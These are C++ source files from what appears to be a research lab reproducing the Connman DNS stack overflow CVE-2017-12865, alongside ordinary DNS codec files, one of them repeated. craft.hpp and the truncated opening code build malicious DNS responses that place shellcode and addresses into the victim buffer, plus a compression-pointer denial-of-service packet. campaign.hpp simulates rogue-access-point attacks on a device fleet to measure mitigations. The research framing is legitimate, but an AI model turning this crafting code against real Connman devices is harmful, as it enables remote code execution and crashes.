  // re-expands the whole run; the hop budget, not the wire size, is the
  // only brake.
  const std::size_t run_start = w.size();
  if (run_start > 0x3FFF) return util::Internal("offset exceeds pointer range");
  for (int i = 0; i < run_labels; ++i) {
    w.WriteU8(static_cast<std::uint8_t>(kMaxLabelLen));
    for (std::size_t b = 0; b < kMaxLabelLen; ++b) w.WriteU8('A');
  }
  w.WriteU8(static_cast<std::uint8_t>(kCompressionFlags | (run_start >> 8)));
  w.WriteU8(static_cast<std::uint8_t>(run_start & 0xFF));

  // RR fixed fields + 4-byte A rdata.
  w.WriteU16BE(static_cast<std::uint16_t>(Type::kA));
  w.WriteU16BE(static_cast<std::uint16_t>(Class::kIN));
  w.WriteU32BE(120);
  w.WriteU16BE(4);
  w.WriteBytes(util::Bytes{10, 66, 66, 66});
  return std::move(w).Take();
}

Message MaliciousAResponse(const Message& query, LabelSeq name_labels,
                           const std::string& answer_ip) {
  Message response = Message::ResponseFor(query);
  ResourceRecord rr;
  rr.raw_name = std::move(name_labels);
  rr.type = Type::kA;
  rr.klass = Class::kIN;
  rr.ttl = 120;
  auto ip = ParseIPv4(answer_ip);
  rr.rdata = ip.ok() ? ip.value() : util::Bytes{10, 66, 66, 66};
  response.answers.push_back(std::move(rr));
  return response;
}

}  // namespace connlab::dns
