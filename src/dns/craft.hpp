// Malicious DNS crafting: turning a desired byte image of the victim's
// `name` buffer into a label sequence that the vulnerable get_name will
// expand into exactly that image.
//
// The vulnerable expansion (paper Listing 1) interleaves a length byte
// before every label's content:
//
//     name[(*name_len)++] = label_len;
//     memcpy(name + *name_len, p + 1, label_len + 1);
//     *name_len += label_len;
//
// so the attacker does NOT control every byte of the overflow: at each
// label boundary the buffer holds the next label's length (1..63), and the
// byte just past the image holds the terminating 0. PayloadImage +
// CutIntoLabels solve the placement problem the paper's authors solved by
// hand: mark the bytes that must be exact (shellcode, chain words,
// addresses), leave don't-care gaps (sled slack, placeholder words,
// garbage slots), and the cutter finds label boundaries that only ever land
// on don't-care bytes. If the required bytes are too dense (no free byte in
// some 64-byte window) crafting fails — a real constraint of this CVE.
#pragma once

#include <cstdint>
#include <optional>
#include <vector>

#include "src/dns/message.hpp"
#include "src/dns/name.hpp"
#include "src/util/bytes.hpp"
#include "src/util/status.hpp"

namespace connlab::dns {

class PayloadImage {
 public:
  /// `size` bytes will be written into the victim buffer starting at
  /// name[0] (plus a terminating 0x00 at name[size], which the caller must
  /// budget for). Don't-care bytes encode as `filler`.
  explicit PayloadImage(std::size_t size, std::uint8_t filler = 0x41)
      : bytes_(size, filler), required_(size, false), filler_(filler) {}

  [[nodiscard]] std::size_t size() const noexcept { return bytes_.size(); }
  [[nodiscard]] std::uint8_t filler() const noexcept { return filler_; }

  util::Status SetBytes(std::size_t offset, util::ByteSpan data);
  util::Status SetWord(std::size_t offset, std::uint32_t value);  // little-endian
  /// Marks a range as required with its current (filler) contents — used
  /// for NOP sleds, which must not be interrupted by label-length bytes.
  util::Status Require(std::size_t offset, std::size_t len);

  [[nodiscard]] bool required(std::size_t offset) const {
    return required_[offset];
  }
  [[nodiscard]] std::uint8_t at(std::size_t offset) const {
    return bytes_[offset];
  }
  [[nodiscard]] const util::Bytes& bytes() const noexcept { return bytes_; }

 private:
  util::Bytes bytes_;
  std::vector<bool> required_;
  std::uint8_t filler_;
};

/// Finds label boundaries such that expansion reproduces `image` on every
/// required byte (don't-care bytes at boundaries become length values).
/// Fails with ResourceExhausted if required bytes are too dense.
util::Result<LabelSeq> CutIntoLabels(const PayloadImage& image);

/// The byte image get_name would produce for `labels` (length bytes
/// interleaved, trailing 0x00) — the tests' ground truth and the attacker's
/// preview of the victim buffer.
util::Bytes ExpandLabels(const LabelSeq& labels);

/// Junk labels whose expansion totals exactly `total_len` bytes (plus the
/// trailing 0). Used for the plain DoS crash. Requires total_len >= 2.
util::Result<LabelSeq> JunkLabels(std::size_t total_len, std::uint8_t filler = 0x41);

/// A Type-A response to `query` whose single answer carries `name_labels`
/// verbatim as its owner name — legitimate-looking header (id echoed,
/// QR/RA set, question echoed) so it passes Connman's sanity checks and
/// reaches the vulnerable expansion.
Message MaliciousAResponse(const Message& query, LabelSeq name_labels,
                           const std::string& answer_ip = "10.66.66.66");

/// A compression-amplified DoS response: the answer's owner name is a
/// small run of labels ending in a pointer back to its own start, so the
/// vulnerable get_name re-expands the run once per pointer hop (bounded by
/// its 10-hop budget) — a compact packet producing a many-times-larger
/// expansion. This is the "expands a compressed DNS name" facet of
/// CVE-2017-12865: the wire stays small, the stack write does not.
/// `run_labels` 63-byte labels per pass (wire cost ~64 bytes each).
util::Result<util::Bytes> CompressionBombResponse(const Message& query,
                                                  int run_labels = 4);

}  // namespace connlab::dns
