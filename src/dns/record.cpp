#include "src/dns/record.hpp"

#include <cstdio>

namespace connlab::dns {

std::string TypeName(Type type) {
  switch (type) {
    case Type::kA: return "A";
    case Type::kNS: return "NS";
    case Type::kCNAME: return "CNAME";
    case Type::kSOA: return "SOA";
    case Type::kPTR: return "PTR";
    case Type::kMX: return "MX";
    case Type::kTXT: return "TXT";
    case Type::kAAAA: return "AAAA";
    case Type::kAny: return "ANY";
  }
  return "TYPE" + std::to_string(static_cast<std::uint16_t>(type));
}

util::Result<util::Bytes> ParseIPv4(const std::string& dotted_quad) {
  util::Bytes out;
  unsigned a = 0;
  unsigned b = 0;
  unsigned c = 0;
  unsigned d = 0;
  char extra = 0;
  const int matched = std::sscanf(dotted_quad.c_str(), "%u.%u.%u.%u%c",
                                  &a, &b, &c, &d, &extra);
  if (matched != 4 || a > 255 || b > 255 || c > 255 || d > 255) {
    return util::InvalidArgument("bad IPv4 literal: " + dotted_quad);
  }
  out = {static_cast<std::uint8_t>(a), static_cast<std::uint8_t>(b),
         static_cast<std::uint8_t>(c), static_cast<std::uint8_t>(d)};
  return out;
}

util::Result<std::string> FormatIPv4(util::ByteSpan rdata) {
  if (rdata.size() != 4) return util::Malformed("A rdata is not 4 bytes");
  char buf[20];
  std::snprintf(buf, sizeof(buf), "%u.%u.%u.%u", rdata[0], rdata[1], rdata[2],
                rdata[3]);
  return std::string(buf);
}

ResourceRecord MakeA(std::string name, const std::string& dotted_quad,
                     std::uint32_t ttl) {
  ResourceRecord rr;
  rr.name = std::move(name);
  rr.type = Type::kA;
  rr.ttl = ttl;
  auto addr = ParseIPv4(dotted_quad);
  rr.rdata = addr.ok() ? addr.value() : util::Bytes{0, 0, 0, 0};
  return rr;
}

ResourceRecord MakeAAAA(std::string name, std::uint32_t ttl) {
  ResourceRecord rr;
  rr.name = std::move(name);
  rr.type = Type::kAAAA;
  rr.ttl = ttl;
  rr.rdata.assign(16, 0);
  rr.rdata[15] = 1;  // ::1 placeholder
  return rr;
}

ResourceRecord MakeTXT(std::string name, std::string_view text,
                       std::uint32_t ttl) {
  ResourceRecord rr;
  rr.name = std::move(name);
  rr.type = Type::kTXT;
  rr.ttl = ttl;
  rr.rdata.push_back(static_cast<std::uint8_t>(text.size() & 0xFF));
  rr.rdata.insert(rr.rdata.end(), text.begin(), text.end());
  return rr;
}

namespace {

/// One record whose rdata is a single uncompressed name.
ResourceRecord MakeNameRdata(std::string name, Type type,
                             const std::string& target, std::uint32_t ttl) {
  ResourceRecord rr;
  rr.name = std::move(name);
  rr.type = type;
  rr.ttl = ttl;
  util::ByteWriter w;
  if (EncodeName(w, target).ok()) rr.rdata = std::move(w).Take();
  return rr;
}

}  // namespace

ResourceRecord MakeNS(std::string name, const std::string& target,
                      std::uint32_t ttl) {
  return MakeNameRdata(std::move(name), Type::kNS, target, ttl);
}

ResourceRecord MakeCNAME(std::string name, const std::string& target,
                         std::uint32_t ttl) {
  return MakeNameRdata(std::move(name), Type::kCNAME, target, ttl);
}

ResourceRecord MakePTR(std::string name, const std::string& target,
                       std::uint32_t ttl) {
  return MakeNameRdata(std::move(name), Type::kPTR, target, ttl);
}

ResourceRecord MakeMX(std::string name, std::uint16_t preference,
                      const std::string& exchange, std::uint32_t ttl) {
  ResourceRecord rr;
  rr.name = std::move(name);
  rr.type = Type::kMX;
  rr.ttl = ttl;
  util::ByteWriter w;
  w.WriteU16BE(preference);
  if (EncodeName(w, exchange).ok()) rr.rdata = std::move(w).Take();
  return rr;
}

ResourceRecord MakeSOA(std::string name, const SoaFields& soa,
                       std::uint32_t ttl) {
  ResourceRecord rr;
  rr.name = std::move(name);
  rr.type = Type::kSOA;
  rr.ttl = ttl;
  util::ByteWriter w;
  if (!EncodeName(w, soa.mname).ok()) return rr;
  if (!EncodeName(w, soa.rname).ok()) return rr;
  w.WriteU32BE(soa.serial);
  w.WriteU32BE(soa.refresh);
  w.WriteU32BE(soa.retry);
  w.WriteU32BE(soa.expire);
  w.WriteU32BE(soa.minimum);
  rr.rdata = std::move(w).Take();
  return rr;
}

util::Result<std::string> DecodeNameRdata(const ResourceRecord& rr) {
  if (rr.type != Type::kNS && rr.type != Type::kCNAME &&
      rr.type != Type::kPTR) {
    return util::InvalidArgument("rdata of " + TypeName(rr.type) +
                                 " is not a bare name");
  }
  // max_hops=0: rdata stands alone, a pointer would reach outside it.
  CONNLAB_ASSIGN_OR_RETURN(const DecodedName decoded,
                           DecodeName(rr.rdata, 0, /*max_hops=*/0));
  if (decoded.wire_len != rr.rdata.size()) {
    return util::Malformed("trailing bytes after " + TypeName(rr.type) +
                           " target name");
  }
  return decoded.dotted;
}

util::Result<MxFields> DecodeMX(const ResourceRecord& rr) {
  if (rr.type != Type::kMX) {
    return util::InvalidArgument("not an MX record");
  }
  util::ByteReader r(rr.rdata);
  MxFields mx;
  CONNLAB_ASSIGN_OR_RETURN(mx.preference, r.ReadU16BE());
  CONNLAB_ASSIGN_OR_RETURN(const DecodedName decoded,
                           DecodeName(rr.rdata, 2, /*max_hops=*/0));
  if (2 + decoded.wire_len != rr.rdata.size()) {
    return util::Malformed("trailing bytes after MX exchange name");
  }
  mx.exchange = decoded.dotted;
  return mx;
}

util::Result<SoaFields> DecodeSOA(const ResourceRecord& rr) {
  if (rr.type != Type::kSOA) {
    return util::InvalidArgument("not a SOA record");
  }
  SoaFields soa;
  CONNLAB_ASSIGN_OR_RETURN(const DecodedName mname,
                           DecodeName(rr.rdata, 0, /*max_hops=*/0));
  soa.mname = mname.dotted;
  CONNLAB_ASSIGN_OR_RETURN(
      const DecodedName rname,
      DecodeName(rr.rdata, mname.wire_len, /*max_hops=*/0));
  soa.rname = rname.dotted;
  util::ByteReader r(rr.rdata);
  CONNLAB_RETURN_IF_ERROR(r.Skip(mname.wire_len + rname.wire_len));
  CONNLAB_ASSIGN_OR_RETURN(soa.serial, r.ReadU32BE());
  CONNLAB_ASSIGN_OR_RETURN(soa.refresh, r.ReadU32BE());
  CONNLAB_ASSIGN_OR_RETURN(soa.retry, r.ReadU32BE());
  CONNLAB_ASSIGN_OR_RETURN(soa.expire, r.ReadU32BE());
  CONNLAB_ASSIGN_OR_RETURN(soa.minimum, r.ReadU32BE());
  if (r.remaining() != 0) {
    return util::Malformed("trailing bytes after SOA fields");
  }
  return soa;
}

util::Result<std::string> DecodeTXT(const ResourceRecord& rr) {
  if (rr.type != Type::kTXT) {
    return util::InvalidArgument("not a TXT record");
  }
  std::string text;
  std::size_t i = 0;
  while (i < rr.rdata.size()) {
    const std::size_t len = rr.rdata[i];
    if (i + 1 + len > rr.rdata.size()) {
      return util::Malformed("TXT character-string runs past rdata");
    }
    text.append(reinterpret_cast<const char*>(rr.rdata.data()) + i + 1, len);
    i += 1 + len;
  }
  return text;
}

}  // namespace connlab::dns
