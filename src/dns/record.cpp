#include "src/dns/record.hpp"

#include <cstdio>

namespace connlab::dns {

std::string TypeName(Type type) {
  switch (type) {
    case Type::kA: return "A";
    case Type::kNS: return "NS";
    case Type::kCNAME: return "CNAME";
    case Type::kSOA: return "SOA";
    case Type::kPTR: return "PTR";
    case Type::kMX: return "MX";
    case Type::kTXT: return "TXT";
    case Type::kAAAA: return "AAAA";
    case Type::kAny: return "ANY";
  }
  return "TYPE" + std::to_string(static_cast<std::uint16_t>(type));
}

util::Result<util::Bytes> ParseIPv4(const std::string& dotted_quad) {
  util::Bytes out;
  unsigned a = 0;
  unsigned b = 0;
  unsigned c = 0;
  unsigned d = 0;
  char extra = 0;
  const int matched = std::sscanf(dotted_quad.c_str(), "%u.%u.%u.%u%c",
                                  &a, &b, &c, &d, &extra);
  if (matched != 4 || a > 255 || b > 255 || c > 255 || d > 255) {
    return util::InvalidArgument("bad IPv4 literal: " + dotted_quad);
  }
  out = {static_cast<std::uint8_t>(a), static_cast<std::uint8_t>(b),
         static_cast<std::uint8_t>(c), static_cast<std::uint8_t>(d)};
  return out;
}

util::Result<std::string> FormatIPv4(util::ByteSpan rdata) {
  if (rdata.size() != 4) return util::Malformed("A rdata is not 4 bytes");
  char buf[20];
  std::snprintf(buf, sizeof(buf), "%u.%u.%u.%u", rdata[0], rdata[1], rdata[2],
                rdata[3]);
  return std::string(buf);
}

ResourceRecord MakeA(std::string name, const std::string& dotted_quad,
                     std::uint32_t ttl) {
  ResourceRecord rr;
  rr.name = std::move(name);
  rr.type = Type::kA;
  rr.ttl = ttl;
  auto addr = ParseIPv4(dotted_quad);
  rr.rdata = addr.ok() ? addr.value() : util::Bytes{0, 0, 0, 0};
  return rr;
}

ResourceRecord MakeAAAA(std::string name, std::uint32_t ttl) {
  ResourceRecord rr;
  rr.name = std::move(name);
  rr.type = Type::kAAAA;
  rr.ttl = ttl;
  rr.rdata.assign(16, 0);
  rr.rdata[15] = 1;  // ::1 placeholder
  return rr;
}

ResourceRecord MakeTXT(std::string name, std::string_view text,
                       std::uint32_t ttl) {
  ResourceRecord rr;
  rr.name = std::move(name);
  rr.type = Type::kTXT;
  rr.ttl = ttl;
  rr.rdata.push_back(static_cast<std::uint8_t>(text.size() & 0xFF));
  rr.rdata.insert(rr.rdata.end(), text.begin(), text.end());
  return rr;
}

}  // namespace connlab::dns
