// Full DNS message codec: header, question, answer/authority/additional
// sections, encode to wire and decode from wire.
//
// Encoding supports the raw tier (records whose owner name is a LabelSeq),
// which is how the fake server emits responses that no spec-abiding
// resolver would ever produce. Decoding is strict — it is used by the
// benign client and upstream-server paths, and by tests asserting that
// crafted packets are indeed ill-formed by RFC standards.
#pragma once

#include <cstdint>
#include <string>
#include <vector>

#include "src/dns/record.hpp"
#include "src/util/bytes.hpp"
#include "src/util/status.hpp"

namespace connlab::dns {

inline constexpr std::size_t kHeaderSize = 12;

enum class Opcode : std::uint8_t { kQuery = 0, kIQuery = 1, kStatus = 2 };
enum class Rcode : std::uint8_t {
  kNoError = 0,
  kFormErr = 1,
  kServFail = 2,
  kNXDomain = 3,
  kNotImp = 4,
  kRefused = 5,
};

struct Header {
  std::uint16_t id = 0;
  bool qr = false;  // response flag
  Opcode opcode = Opcode::kQuery;
  bool aa = false;
  bool tc = false;
  bool rd = true;
  bool ra = false;
  Rcode rcode = Rcode::kNoError;
  // Section counts are derived from the vectors on encode and reported
  // verbatim from the wire on decode.
  std::uint16_t qdcount = 0;
  std::uint16_t ancount = 0;
  std::uint16_t nscount = 0;
  std::uint16_t arcount = 0;
};

struct Question {
  std::string name;
  Type type = Type::kA;
  Class klass = Class::kIN;
};

struct Message {
  Header header;
  std::vector<Question> questions;
  std::vector<ResourceRecord> answers;
  std::vector<ResourceRecord> authorities;
  std::vector<ResourceRecord> additionals;

  /// A standard recursive-desired query for one A/AAAA name.
  static Message Query(std::uint16_t id, std::string name, Type type = Type::kA);
  /// A response skeleton echoing `query`'s id and question.
  static Message ResponseFor(const Message& query);
};

/// Serialises `msg`; section counts are computed from the vectors.
util::Result<util::Bytes> Encode(const Message& msg);

/// Parses a wire message. Record owner names are decoded (compression
/// followed); rdata is kept opaque.
util::Result<Message> Decode(util::ByteSpan wire);

/// One-line rendering for logs: "id=0x1234 QUERY q=example.com/A".
std::string Summary(const Message& msg);

}  // namespace connlab::dns
