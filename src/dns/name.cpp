#include "src/dns/name.hpp"

#include <cstdio>

namespace connlab::dns {

util::Result<LabelSeq> ParseDotted(std::string_view dotted) {
  LabelSeq labels;
  if (dotted.empty() || dotted == ".") return labels;  // root
  if (dotted.back() == '.') dotted.remove_suffix(1);

  std::size_t total = 1;  // terminating root byte
  std::size_t start = 0;
  while (start <= dotted.size()) {
    std::size_t dot = dotted.find('.', start);
    if (dot == std::string_view::npos) dot = dotted.size();
    const std::size_t len = dot - start;
    if (len == 0) return util::InvalidArgument("empty label in name");
    if (len > kMaxLabelLen) return util::InvalidArgument("label exceeds 63 bytes");
    labels.emplace_back(dotted.begin() + static_cast<std::ptrdiff_t>(start),
                        dotted.begin() + static_cast<std::ptrdiff_t>(dot));
    total += len + 1;
    if (total > kMaxNameLen) return util::InvalidArgument("name exceeds 255 bytes");
    if (dot == dotted.size()) break;
    start = dot + 1;
  }
  return labels;
}

std::string ToDotted(const LabelSeq& labels) {
  if (labels.empty()) return ".";
  std::string out;
  for (std::size_t i = 0; i < labels.size(); ++i) {
    if (i > 0) out.push_back('.');
    for (std::uint8_t b : labels[i]) {
      if (b >= 0x21 && b <= 0x7E && b != '.' && b != '\\') {
        out.push_back(static_cast<char>(b));
      } else {
        char esc[8];
        std::snprintf(esc, sizeof(esc), "\\%03u", b);
        out += esc;
      }
    }
  }
  return out;
}

util::Status EncodeName(util::ByteWriter& w, std::string_view dotted) {
  CONNLAB_ASSIGN_OR_RETURN(LabelSeq labels, ParseDotted(dotted));
  return EncodeLabels(w, labels, /*terminate=*/true);
}

util::Status EncodeLabels(util::ByteWriter& w, const LabelSeq& labels,
                          bool terminate) {
  for (const util::Bytes& label : labels) {
    if (label.empty()) return util::InvalidArgument("cannot encode empty label");
    if (label.size() > kMaxLabelLen) {
      return util::InvalidArgument("label exceeds 63 bytes (unencodable)");
    }
    w.WriteU8(static_cast<std::uint8_t>(label.size()));
    w.WriteBytes(label);
  }
  if (terminate) w.WriteU8(0);
  return util::OkStatus();
}

util::Result<DecodedName> DecodeName(util::ByteSpan packet, std::size_t offset,
                                     int max_hops) {
  DecodedName out;
  std::size_t pos = offset;
  std::size_t end_of_original = 0;  // set when the first pointer is taken
  bool jumped = false;
  int hops = 0;
  std::size_t total = 1;

  while (true) {
    if (pos >= packet.size()) return util::Malformed("name runs off packet");
    const std::uint8_t len = packet[pos];
    if ((len & kCompressionFlags) == kCompressionFlags) {
      if (pos + 1 >= packet.size()) return util::Malformed("truncated pointer");
      if (++hops > max_hops) return util::Malformed("compression pointer loop");
      const std::size_t target =
          (static_cast<std::size_t>(len & 0x3F) << 8) | packet[pos + 1];
      if (!jumped) {
        end_of_original = pos + 2;
        jumped = true;
      }
      if (target >= packet.size()) return util::Malformed("pointer off packet");
      pos = target;
      continue;
    }
    if ((len & kCompressionFlags) != 0) {
      return util::Malformed("reserved label type");
    }
    if (len == 0) {
      if (!jumped) end_of_original = pos + 1;
      break;
    }
    if (pos + 1 + len > packet.size()) return util::Malformed("label off packet");
    total += len + 1;
    if (total > kMaxNameLen) return util::Malformed("decoded name exceeds 255");
    out.labels.emplace_back(packet.begin() + static_cast<std::ptrdiff_t>(pos + 1),
                            packet.begin() + static_cast<std::ptrdiff_t>(pos + 1 + len));
    pos += 1 + len;
  }
  out.dotted = ToDotted(out.labels);
  out.wire_len = end_of_original - offset;
  return out;
}

}  // namespace connlab::dns
