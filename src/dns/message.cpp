#include "src/dns/message.hpp"

#include <cstdio>

namespace connlab::dns {

namespace {

std::uint16_t FlagsWord(const Header& h) {
  std::uint16_t flags = 0;
  if (h.qr) flags |= 0x8000;
  flags |= static_cast<std::uint16_t>((static_cast<int>(h.opcode) & 0xF) << 11);
  if (h.aa) flags |= 0x0400;
  if (h.tc) flags |= 0x0200;
  if (h.rd) flags |= 0x0100;
  if (h.ra) flags |= 0x0080;
  flags |= static_cast<std::uint16_t>(static_cast<int>(h.rcode) & 0xF);
  return flags;
}

Header HeaderFromFlags(std::uint16_t id, std::uint16_t flags) {
  Header h;
  h.id = id;
  h.qr = (flags & 0x8000) != 0;
  h.opcode = static_cast<Opcode>((flags >> 11) & 0xF);
  h.aa = (flags & 0x0400) != 0;
  h.tc = (flags & 0x0200) != 0;
  h.rd = (flags & 0x0100) != 0;
  h.ra = (flags & 0x0080) != 0;
  h.rcode = static_cast<Rcode>(flags & 0xF);
  return h;
}

util::Status EncodeRecord(util::ByteWriter& w, const ResourceRecord& rr) {
  if (rr.uses_raw_name()) {
    CONNLAB_RETURN_IF_ERROR(EncodeLabels(w, rr.raw_name));
  } else {
    CONNLAB_RETURN_IF_ERROR(EncodeName(w, rr.name));
  }
  w.WriteU16BE(static_cast<std::uint16_t>(rr.type));
  w.WriteU16BE(static_cast<std::uint16_t>(rr.klass));
  w.WriteU32BE(rr.ttl);
  if (rr.rdata.size() > 0xFFFF) return util::InvalidArgument("rdata too large");
  w.WriteU16BE(static_cast<std::uint16_t>(rr.rdata.size()));
  w.WriteBytes(rr.rdata);
  return util::OkStatus();
}

util::Result<ResourceRecord> DecodeRecord(util::ByteSpan wire,
                                          util::ByteReader& r) {
  ResourceRecord rr;
  CONNLAB_ASSIGN_OR_RETURN(DecodedName name, DecodeName(wire, r.offset()));
  CONNLAB_RETURN_IF_ERROR(r.Skip(name.wire_len));
  rr.name = name.dotted;
  CONNLAB_ASSIGN_OR_RETURN(std::uint16_t type, r.ReadU16BE());
  CONNLAB_ASSIGN_OR_RETURN(std::uint16_t klass, r.ReadU16BE());
  CONNLAB_ASSIGN_OR_RETURN(std::uint32_t ttl, r.ReadU32BE());
  CONNLAB_ASSIGN_OR_RETURN(std::uint16_t rdlen, r.ReadU16BE());
  CONNLAB_ASSIGN_OR_RETURN(util::Bytes rdata, r.ReadBytes(rdlen));
  rr.type = static_cast<Type>(type);
  rr.klass = static_cast<Class>(klass);
  rr.ttl = ttl;
  rr.rdata = std::move(rdata);
  return rr;
}

}  // namespace

Message Message::Query(std::uint16_t id, std::string name, Type type) {
  Message msg;
  msg.header.id = id;
  msg.header.rd = true;
  Question q;
  q.name = std::move(name);
  q.type = type;
  msg.questions.push_back(std::move(q));
  return msg;
}

Message Message::ResponseFor(const Message& query) {
  Message msg;
  msg.header.id = query.header.id;
  msg.header.qr = true;
  msg.header.rd = query.header.rd;
  msg.header.ra = true;
  msg.questions = query.questions;
  return msg;
}

util::Result<util::Bytes> Encode(const Message& msg) {
  util::ByteWriter w;
  w.WriteU16BE(msg.header.id);
  w.WriteU16BE(FlagsWord(msg.header));
  w.WriteU16BE(static_cast<std::uint16_t>(msg.questions.size()));
  w.WriteU16BE(static_cast<std::uint16_t>(msg.answers.size()));
  w.WriteU16BE(static_cast<std::uint16_t>(msg.authorities.size()));
  w.WriteU16BE(static_cast<std::uint16_t>(msg.additionals.size()));
  for (const Question& q : msg.questions) {
    CONNLAB_RETURN_IF_ERROR(EncodeName(w, q.name));
    w.WriteU16BE(static_cast<std::uint16_t>(q.type));
    w.WriteU16BE(static_cast<std::uint16_t>(q.klass));
  }
  for (const auto* section : {&msg.answers, &msg.authorities, &msg.additionals}) {
    for (const ResourceRecord& rr : *section) {
      CONNLAB_RETURN_IF_ERROR(EncodeRecord(w, rr));
    }
  }
  return std::move(w).Take();
}

util::Result<Message> Decode(util::ByteSpan wire) {
  util::ByteReader r(wire);
  Message msg;
  CONNLAB_ASSIGN_OR_RETURN(std::uint16_t id, r.ReadU16BE());
  CONNLAB_ASSIGN_OR_RETURN(std::uint16_t flags, r.ReadU16BE());
  msg.header = HeaderFromFlags(id, flags);
  CONNLAB_ASSIGN_OR_RETURN(msg.header.qdcount, r.ReadU16BE());
  CONNLAB_ASSIGN_OR_RETURN(msg.header.ancount, r.ReadU16BE());
  CONNLAB_ASSIGN_OR_RETURN(msg.header.nscount, r.ReadU16BE());
  CONNLAB_ASSIGN_OR_RETURN(msg.header.arcount, r.ReadU16BE());

  for (int i = 0; i < msg.header.qdcount; ++i) {
    CONNLAB_ASSIGN_OR_RETURN(DecodedName name, DecodeName(wire, r.offset()));
    CONNLAB_RETURN_IF_ERROR(r.Skip(name.wire_len));
    Question q;
    q.name = name.dotted;
    CONNLAB_ASSIGN_OR_RETURN(std::uint16_t type, r.ReadU16BE());
    CONNLAB_ASSIGN_OR_RETURN(std::uint16_t klass, r.ReadU16BE());
    q.type = static_cast<Type>(type);
    q.klass = static_cast<Class>(klass);
    msg.questions.push_back(std::move(q));
  }
  struct SectionSpec {
    std::uint16_t count;
    std::vector<ResourceRecord>* out;
  };
  for (SectionSpec spec : {SectionSpec{msg.header.ancount, &msg.answers},
                           SectionSpec{msg.header.nscount, &msg.authorities},
                           SectionSpec{msg.header.arcount, &msg.additionals}}) {
    for (int i = 0; i < spec.count; ++i) {
      CONNLAB_ASSIGN_OR_RETURN(ResourceRecord rr, DecodeRecord(wire, r));
      spec.out->push_back(std::move(rr));
    }
  }
  return msg;
}

std::string Summary(const Message& msg) {
  char buf[64];
  std::snprintf(buf, sizeof(buf), "id=0x%04x %s", msg.header.id,
                msg.header.qr ? "RESPONSE" : "QUERY");
  std::string out = buf;
  for (const Question& q : msg.questions) {
    out += " q=" + q.name + "/" + TypeName(q.type);
  }
  std::snprintf(buf, sizeof(buf), " an=%zu", msg.answers.size());
  out += buf;
  return out;
}

}  // namespace connlab::dns
