#include "src/fleet/population.hpp"

#include <algorithm>

namespace connlab::fleet {

ClientTraits SampleTraits(const PopulationProfile& profile, util::Rng& rng) {
  ClientTraits traits;
  // Draw order is part of the replay contract: policy, variant, traffic.
  if (rng.NextBool(profile.p_canary) && !profile.canary_bits.empty()) {
    traits.policy.canary_bits = profile.canary_bits[static_cast<std::size_t>(
        rng.NextBelow(profile.canary_bits.size()))];
  }
  traits.policy.cfi = rng.NextBool(profile.p_cfi);
  traits.policy.heap_integrity = rng.NextBool(profile.p_heap_integrity);
  traits.policy.stochastic_diversity = profile.diversity_bits > 0;
  if (profile.diversity_bits > 0) {
    traits.variant = static_cast<std::uint32_t>(
        rng.NextBelow(1ull << profile.diversity_bits));
  }
  const std::uint64_t span =
      2ull * std::max<std::uint32_t>(profile.queries_per_session_mean, 1);
  traits.queries = static_cast<std::uint32_t>(1 + rng.NextBelow(span - 1));
  traits.roams = rng.NextBool(profile.p_roam);
  return traits;
}

std::uint64_t SampleQueryName(const PopulationProfile& profile,
                              util::Rng& rng) {
  if (rng.NextBool(profile.p_hot) && profile.hot_names > 0) {
    return rng.NextBelow(profile.hot_names);
  }
  return profile.hot_names + rng.NextBelow(std::max(profile.tail_names, 1u));
}

}  // namespace connlab::fleet
