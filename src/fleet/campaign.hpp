// The fleet campaign driver: DAEDALUS's question asked at population scale.
//
// One attacker profiles ONE captured device and fires the same pre-built
// volley across a churning fleet. Every victim is a snapshot-restore boot
// of one of 2^b diversity variants with its own sampled mitigation policy;
// the campaign answers "what fraction of the population does that single
// profiled exploit compromise?" as a function of diversity entropy,
// mitigation adoption, and how much traffic the attacker can race.
//
// Everything runs in virtual time off one seed: the same (seed, config)
// replays to the same event order, the same outcomes, and the same FNV
// digest on any machine — the reproducibility contract the tests enforce.
#pragma once

#include <cstdint>
#include <string_view>
#include <vector>

#include "src/defense/victim_pool.hpp"
#include "src/fleet/event_queue.hpp"
#include "src/fleet/population.hpp"
#include "src/fleet/rogue_ap.hpp"
#include "src/isa/isa.hpp"
#include "src/loader/layout.hpp"
#include "src/util/status.hpp"

namespace connlab::fleet {

/// Which seeded bug class the campaign's attacker exercises. The classes
/// differ in what their exploit depends on, which is exactly what the
/// survival sweep measures: the stack smash carries profiled addresses
/// (diversity moves them), the pointer loop is pure wire bytes (nothing to
/// move), and the heap-metadata overwrite rides allocator addresses the
/// diversity shuffle never touches (only heap-integrity adopters block it).
enum class BugClass : std::uint8_t {
  kStackSmash,    // dnsproxy response smash (address-dependent)
  kPointerLoop,   // resolvd compression-pointer loop (address-free DoS)
  kHeapMetadata,  // camstored chunk-tag overwrite + unlink write
};

std::string_view BugClassName(BugClass bug_class) noexcept;

struct FleetConfig {
  std::uint64_t victims = 1000;
  std::uint64_t seed = 42;
  isa::Arch arch = isa::Arch::kVX86;
  loader::ProtectionConfig base = loader::ProtectionConfig::WxAslr();
  PopulationProfile population = PopulationProfile::IoTDefault();
  RogueAp::Config ap;
  std::uint32_t max_concurrent = 4096;  // sessions alive at once
  std::uint32_t profiled_variant = 0;   // the device the attacker captured
  double attack_rate = 0.25;            // fraction of queries the AP races
  std::uint64_t brute_budget = 4096;    // responses/victim for canary guessing
  BugClass bug_class = BugClass::kStackSmash;  // the exploit the AP races
  /// Superblock tier on victim-lane CPUs (disable-only knob; the
  /// fleet_campaign example exposes it as --no-superblocks).
  bool superblocks = true;
  /// Block linking / continuation within the tier (--no-block-links).
  bool block_links = true;
  /// SharedSuperblockRegistry publication/import (--no-shared-blocks).
  bool shared_blocks = true;
};

struct FleetResult {
  BugClass bug_class = BugClass::kStackSmash;
  // Lifecycle.
  std::uint64_t victims = 0;
  std::uint64_t joins = 0;
  std::uint64_t join_retries = 0;  // DHCP pool exhausted, backed off
  std::uint64_t renews = 0;
  std::uint64_t roams = 0;
  std::uint64_t leaves = 0;
  std::uint64_t lease_expiries = 0;
  // Traffic.
  std::uint64_t queries = 0;
  std::uint64_t cache_hits = 0;
  std::uint64_t cache_misses = 0;
  std::uint64_t cache_evictions = 0;
  // Attack.
  std::uint64_t deliveries = 0;          // malicious responses raced in
  std::uint64_t compromised = 0;         // unique victims shelled
  std::uint64_t crashed = 0;             // unique victims DoS'd
  std::uint64_t trapped = 0;             // deliveries a mitigation caught
  std::uint64_t canaries_defeated = 0;   // weak guards brute-forced
  std::uint64_t brute_responses = 0;     // traffic the brute-forcing cost
  defense::VictimPool::Stats pool;       // lanes / restores / memo hits
  // Reproducibility + throughput.
